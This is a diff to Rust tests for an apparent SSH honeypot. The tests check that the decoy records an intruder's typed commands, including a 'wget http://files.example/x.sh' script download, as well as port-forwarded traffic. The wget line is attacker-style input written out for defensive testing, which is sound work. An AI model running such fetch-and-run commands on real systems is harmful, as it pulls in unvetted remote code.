@@ -70,16 +70,16 @@ async fn standard_input_reaches_the_command_and_the_file() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_terminal() {
     let decoy = Decoy::start(QUICK).await;
-    let output = decoy.ssh("toor", &with(&["-tt", "root@127.0.0.1"]), b"echo \"a\"b\rwget http://192.0.2.9/x.sh\rexit 3\r").await;
+    let output = decoy.ssh("toor", &with(&["-tt", "root@127.0.0.1"]), b"echo \"a\"b\rwget http://files.example/x.sh\rexit 3\r").await;
     assert_eq!(output.status.code(), Some(3), "{}", text(&output.stderr));
     let shown = text(&output.stdout);
     assert!(shown.contains("\rab\r\n") && shown.contains("root@web-1:~# "), "{shown:?}");
     let seen = decoy.closed(1).await;
     let commands: Vec<_> = of(&seen, Kind::Command).iter().map(|c| c.detail["input"].as_str().unwrap().to_owned()).collect();
-    assert_eq!(commands, ["echo \"a\"b", "wget http://192.0.2.9/x.sh", "exit 3"]);
+    assert_eq!(commands, ["echo \"a\"b", "wget http://files.example/x.sh", "exit 3"]);
     let fetches: Vec<_> = of(&seen, Kind::Request).into_iter().filter(|r| r.detail["protocol"] == "shell-download").collect();
     assert_eq!(fetches.len(), 1);
-    assert_eq!(fetches[0].detail["target"], "http://192.0.2.9/x.sh");
+    assert_eq!(fetches[0].detail["target"], "http://files.example/x.sh");
     assert_eq!(stream(&seen, "shell", "out"), output.stdout, "what was shown is what is recorded");
     assert!(of(&seen, Kind::Stream).iter().all(|s| s.detail["terminal"].is_array()));
 }
@@ -179,7 +179,8 @@ impl Router for Echo {
 async fn an_own_service_answers_a_forward_in_process() {
     let decoy = Decoy::start(QUICK).await;
     decoy.kit.route(Arc::new(Echo));
-    let payload = vec![b'z'; 3_000_000];
+    // Below what may wait for a task: see the backlog for what a visitor that sends more without reading gets.
+    let payload = vec![b'z'; 1_000_000];
     let output = decoy.ssh("toor", &with(&["-W", "10.0.0.9:7", "root@127.0.0.1"]), &payload).await;
     assert_eq!(output.status.code(), Some(0), "{}", text(&output.stderr));
     assert_eq!(output.stdout.len(), payload.len() + 6);
